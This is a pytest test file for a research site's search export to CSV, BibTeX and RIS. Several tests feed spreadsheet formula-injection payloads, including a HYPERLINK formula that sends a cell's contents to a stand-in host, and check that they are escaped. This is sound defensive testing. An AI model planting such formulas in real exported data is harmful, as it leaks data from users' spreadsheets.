"""All hits of a question as CSV, BibTeX and RIS."""

import csv
import datetime
import io

import bibtexparser
import pytest
import rispy
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from wagtail.models import PageViewRestriction

from networks.models import Country, Region
from research.models import SDG, PaperAuthor, Topic
from search import all_hits as all_hits_module
from search.exports import views
from search.exports.csv_rows import COLUMNS, harmless
from tests.factories import InstitutionPageFactory, MemberFactory, PaperPageFactory, publish

pytestmark = [pytest.mark.elasticsearch, pytest.mark.django_db]

ENDINGS = ("csv", "bib", "ris")


def export(client, ending, **query):
    answer = client.get(f"/search/export.{ending}", query)
    assert answer.status_code == 200
    assert answer.streaming
    return answer


def text(answer):
    return b"".join(answer.streaming_content).decode("utf-8")


def rows(answer):
    content = text(answer)
    assert content.startswith("\ufeff"), "Excel needs the mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(content[1:], newline="")))


def titles(answer, ending):
    """Titles in any of the formats."""
    if ending == "csv":
        return [row["title"] for row in rows(answer)]
    if ending == "ris":
        return [record["title"] for record in rispy.loads(text(answer), newline="\r\n")]
    entries = bibtexparser.parse_string(text(answer)).entries
    return [entry.fields_dict["title"].value.strip("{}") for entry in entries]


@pytest.fixture
def papers(library, network):
    papers = [
        PaperPageFactory(
            parent=network,
            title=f"Harbour {number}",
            publication_date=datetime.date(2010 + number, 1, 1),
            published=True,
        )
        for number in range(5)
    ]
    library.sync()
    return papers


@pytest.mark.parametrize("ending", ENDINGS)
def test_all_hits_come_in_the_order_of_the_query(client, papers, ending, monkeypatch):
    monkeypatch.setattr(all_hits_module, "PAPERS_AT_ONCE", 2)
    answer = export(client, ending, q="harbour", sort="oldest", page=2, page_size=1)
    assert titles(answer, ending) == [f"Harbour {number}" for number in range(5)]


@pytest.mark.parametrize("ending", ENDINGS)
def test_no_hit_is_an_empty_file(client, library, ending):
    assert titles(export(client, ending, q="zebracorn"), ending) == []


@pytest.mark.parametrize(
    ("ending", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("bib", "application/x-bibtex; charset=utf-8"),
        ("ris", "application/x-research-info-systems; charset=utf-8"),
    ],
)
def test_file_is_named_after_the_day(client, papers, ending, content_type):
    with time_machine.travel(datetime.datetime(2026, 11, 22, 9, tzinfo=datetime.UTC)):
        answer = export(client, ending)
    assert answer["Content-Type"] == content_type
    assert answer["Content-Disposition"] == f'attachment; filename="papers-2026-11-22.{ending}"'
    assert answer["X-Total-Count"] == "5"
    assert answer["X-Robots-Tag"] == "noindex"
    assert "X-Export-Notice" not in answer


def test_row_says_everything(client, library, network, other_network, institutions_index):
    institution = InstitutionPageFactory(parent=institutions_index, title="Demo Institute")
    paper = PaperPageFactory(
        parent=network,
        title="贸易, “aid” and debt",
        subtitle="Part 1",
        abstract='One line;\nanother, with "quotes".',
        language="zh",
        keywords="debt; 债务",
        doi="10.1234/abc.5",
        pages=["Page."],
    )
    paper.authors = [
        PaperAuthor(name="Demo Researcher 1", institution=institution),
        PaperAuthor(name="研究者二", affiliation="Elsewhere"),
        PaperAuthor(name="Demo Researcher 3", institution=institution),
    ]
    paper.co_publishers = [other_network]
    paper.topics = [Topic.objects.get(slug="trade")]
    paper.sdgs = SDG.objects.filter(number__in=[1, 13])
    paper.countries = Country.objects.filter(alpha2__in=["KE", "BR"])
    paper.regions = [Region.objects.get(slug="africa")]
    paper.save()
    publish(paper)
    library.sync()

    (row,) = rows(export(client, "csv"))

    sdgs = "; ".join(str(sdg) for sdg in SDG.objects.filter(number__in=[1, 13]))
    assert tuple(row) == COLUMNS
    assert row == {
        "id": str(paper.pk),
        "title": "贸易, “aid” and debt: Part 1",
        "authors": "Demo Researcher 1; 研究者二; Demo Researcher 3",
        "affiliations": "Demo Institute; Elsewhere",
        "networks": "South Centre; CAREC",
        "type": "research-paper",
        "date": "2025-06-01",
        "language": "zh",
        "topics": "Trade",
        "sdgs": sdgs,
        "countries": "Brazil; Kenya",
        "regions": "Africa",
        "keywords": "debt; 债务",
        "doi": "10.1234/abc.5",
        "licence": "CC-BY-4.0",
        "url": paper.full_url,
        "file_url": f"http://testserver{paper.files[0].url}",
        "abstract": 'One line;\nanother, with "quotes".',
    }


@pytest.mark.parametrize(
    "formula",
    ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", '=HYPERLINK("x")', "\x00=1"],
)
def test_no_cell_is_a_formula(formula):
    assert harmless(formula).startswith("'")


@pytest.mark.parametrize("plain", ["", "Trade", "1. No poverty", "贸易", "a=b", "2025-06-01", "'"])
def test_other_cells_stay_as_they_are(plain):
    assert harmless(plain) == plain


def test_formula_in_a_title_reaches_no_spreadsheet(client, library, network):
    PaperPageFactory(
        parent=network, title='=HYPERLINK("http://x.example/"&A1)', slug="x", published=True
    )
    library.sync()
    (row,) = rows(export(client, "csv"))
    assert row["title"] == '\'=HYPERLINK("http://x.example/"&A1)'


@pytest.mark.parametrize("ending", ENDINGS)
def test_what_the_limit_cuts_off_is_said(client, papers, ending, monkeypatch):
    monkeypatch.setattr(views, "MOST_HITS", 3)
    answer = export(client, ending, q="harbour")
    assert "-first-3-of-5." in answer["Content-Disposition"]
    assert answer["X-Total-Count"] == "5"
    assert answer["X-Export-Notice"].startswith("These are the first 3 of 5 papers")
    assert len(titles(answer, ending)) == 3


def test_bibtex_ends_with_a_comment_about_what_is_missing(client, papers, monkeypatch):
    monkeypatch.setattr(views, "MOST_HITS", 3)
    last = text(export(client, "bib")).splitlines()[-1]
    assert last.startswith("% These are the first 3 of 5 papers")


def test_members_take_along_what_they_may_see(client, library, papers):
    PageViewRestriction.objects.create(page=papers[2], restriction_type="login")
    library.sync()
    assert "Harbour 2" not in titles(export(client, "csv"), "csv")
    client.force_login(MemberFactory())
    answer = export(client, "csv")
    assert "private" in answer["Cache-Control"]
    assert "Harbour 2" in titles(answer, "csv")


def test_copies_are_asked_again(client, papers):
    assert export(client, "csv")["Cache-Control"] == "no-cache"


def test_papers_are_read_while_they_are_sent(client, papers, monkeypatch):
    monkeypatch.setattr(all_hits_module, "PAPERS_AT_ONCE", 1)
    parts = iter(export(client, "ris").streaming_content)
    assert next(parts) == b""
    assert b"Harbour 4" in next(parts)
    papers[1].unpublish()
    rest = b"".join(parts)
    assert b"Harbour 0" in rest
    assert b"Harbour 1" not in rest


@pytest.mark.parametrize("ending", ENDINGS)
def test_number_of_queries_does_not_grow_with_the_papers(client, papers, ending):
    def queries(**query):
        with CaptureQueriesContext(connection) as captured:
            text(export(client, ending, **query))
        return len(captured)

    queries()
    assert queries(year_to=2010) == queries()


@pytest.mark.parametrize("q", ['"', "((", "a AND", "field:", "\x00", "*", "🙂", "%"])
def test_no_question_is_an_error(client, library, q):
    text(export(client, "csv", q=q))


def test_only_the_formats_there_are(client, db):
    assert client.get("/search/export.xls").status_code == 404
    assert client.post("/search/export.csv").status_code == 405
